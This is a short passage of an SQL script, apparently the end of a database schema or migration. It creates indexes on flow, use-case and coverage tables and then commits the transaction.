CREATE INDEX "idx_flows_consumers_party_id" ON "flows_consumers" ("party_id");
CREATE INDEX "idx_flows_equipment_equipment_id" ON "flows_equipment" ("equipment_id");
CREATE INDEX "idx_flows_use_cases_use_case_id" ON "flows_use_cases" ("use_case_id");
CREATE INDEX "idx_use_cases_owner_id" ON "use_cases" ("owner_id");
CREATE INDEX "idx_coverage_user" ON "coverage" ("user");
CREATE INDEX "idx_coverage_convention" ON "coverage" ("convention");
COMMIT;
